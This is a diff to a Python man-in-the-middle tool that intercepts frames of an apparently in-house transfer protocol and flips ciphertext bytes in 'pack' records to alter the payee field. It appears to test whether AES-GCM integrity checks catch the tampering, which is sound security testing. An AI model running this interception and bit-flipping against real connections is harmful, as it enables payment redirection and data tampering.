@@ -33,6 +33,7 @@ import argparse
 import asyncio
 
 from eft_protocol.codes import RequestCode, ResponseCode
+from eft_protocol.v4.pack import ENTRY_HEAD_SIZE, PACK, PACK_HEAD_SIZE
 
 from .common import AttackError, Out, add_listen_argument, add_target_argument
 from .framing import Frame, name_request, resliced
@@ -169,6 +170,9 @@ class ForgeV4(Interceptor):
         count = scratch["requests"] = scratch.get("requests", 0) + 1
         if scratch.get("altered") == 1603:
             self.client_after_1603.append(frame.code)
+        if count > 2 and frame.code == PACK and self.altered_828 == 0:
+            await conn.to_server(self._flip_pack(conn, frame))
+            return
         if count <= 2 or frame.code != RequestCode.SEND_FILE:
             scratch["meta_next"] = count == 2 or frame.code in (900, 901, 902)
             await conn.to_server(frame.raw)
@@ -190,6 +194,20 @@ class ForgeV4(Interceptor):
             await conn.to_server(raw)
             return
         await conn.to_server(frame.raw)
+
+    def _flip_pack(self, conn: MitmConnection, frame: Frame) -> bytes:
+        """A client with PACK sends small files whole, several to a 904 record: the
+        payee is ``--offset`` bytes into the first file's data, after the pack's and
+        the entry's heads and the name (its length unknown to us; any flip of the
+        ciphertext is what matters to AES-GCM)."""
+        raw = frame.raw
+        at = min(23 + PACK_HEAD_SIZE + ENTRY_HEAD_SIZE + self.args.offset, len(raw) - 17)
+        for i, mask in enumerate(self.delta):
+            raw = flip(raw, min(at + i, len(raw) - 17), mask)
+        self.altered_828 += 1
+        conn.scratch["altered"] = 828
+        self.out.step(f"connection {conn.number}: flipped the payee in the pack record (904)")
+        return raw
 
     async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
         scratch = conn.scratch
